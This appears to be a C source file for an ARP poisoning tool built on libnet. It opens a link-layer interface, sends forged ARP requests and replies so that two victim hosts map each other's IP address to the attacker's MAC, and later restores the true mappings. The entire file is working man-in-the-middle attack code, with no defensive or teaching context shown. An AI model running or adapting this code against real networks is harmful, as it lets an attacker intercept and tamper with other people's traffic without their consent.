/* ARP poisoning with libnet (see arp_poison.h). */
#include "arp_poison.h"

#include <stdio.h>
#include <string.h>

#include <libnet.h>

static const uint8_t bcast[6] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff};
static const uint8_t zero_mac[6];

/* One ARP frame: Ethernet from mallory to eth_dst, ARP op with the given
 * sender (sha, spa) and target (tha, tpa). */
static int send_arp(struct arp_poison *p, const uint8_t *eth_dst, uint16_t op, const uint8_t *sha, uint32_t spa,
		    const uint8_t *tha, uint32_t tpa)
{
	libnet_t *l = p->l;
	libnet_clear_packet(l);
	if (libnet_build_arp(ARPHRD_ETHER, ETHERTYPE_IP, 6, 4, op, sha, (const uint8_t *)&spa, tha,
			     (const uint8_t *)&tpa, NULL, 0, l, 0) == -1 ||
	    libnet_build_ethernet(eth_dst, p->my_mac, ETHERTYPE_ARP, NULL, 0, l, 0) == -1 || libnet_write(l) == -1)
		return -1;
	p->sent++;
	return 0;
}

int arp_poison_open(struct arp_poison *p, const char *iface, uint32_t my_ip, const uint8_t my_mac[6],
		    const uint32_t targets[2], char *err, size_t errlen)
{
	char ebuf[LIBNET_ERRBUF_SIZE];
	memset(p, 0, sizeof *p);
	if (!(p->l = libnet_init(LIBNET_LINK, iface, ebuf))) {
		snprintf(err, errlen, "cannot open %s for sending: %s", iface, ebuf);
		return -1;
	}
	memcpy(p->my_mac, my_mac, 6);
	p->my_ip = my_ip;
	p->v[0].ip = targets[0];
	p->v[1].ip = targets[1];
	return 0;
}

int arp_poison_resolve(struct arp_poison *p, int i)
{
	return send_arp(p, bcast, ARPOP_REQUEST, p->my_mac, p->my_ip, zero_mac, p->v[i].ip);
}

int arp_poison_answer(struct arp_poison *p, int i)
{
	const struct arp_victim *v = &p->v[i], *o = &p->v[1 - i];
	return send_arp(p, v->mac, ARPOP_REPLY, p->my_mac, o->ip, v->mac, v->ip);
}

int arp_poison_round(struct arp_poison *p)
{
	int e = 0;
	for (int i = 0; i < 2; i++) {
		const struct arp_victim *v = &p->v[i], *o = &p->v[1 - i];
		if (!v->known)
			continue;
		/* "who-has V tell O", sender MAC mallory's: V learns O at her MAC. */
		e |= send_arp(p, v->mac, ARPOP_REQUEST, p->my_mac, o->ip, zero_mac, v->ip);
		e |= arp_poison_answer(p, i);
	}
	return e ? -1 : 0;
}

int arp_poison_restore(struct arp_poison *p)
{
	int e = 0;
	for (int i = 0; i < 2; i++) {
		const struct arp_victim *v = &p->v[i], *o = &p->v[1 - i];
		if (!v->known || !o->known)
			continue;
		e |= send_arp(p, v->mac, ARPOP_REQUEST, o->mac, o->ip, zero_mac, v->ip);
		e |= send_arp(p, v->mac, ARPOP_REPLY, o->mac, o->ip, v->mac, v->ip);
	}
	return e ? -1 : 0;
}

void arp_poison_close(struct arp_poison *p)
{
	if (p->l)
		libnet_destroy(p->l);
	p->l = NULL;
}
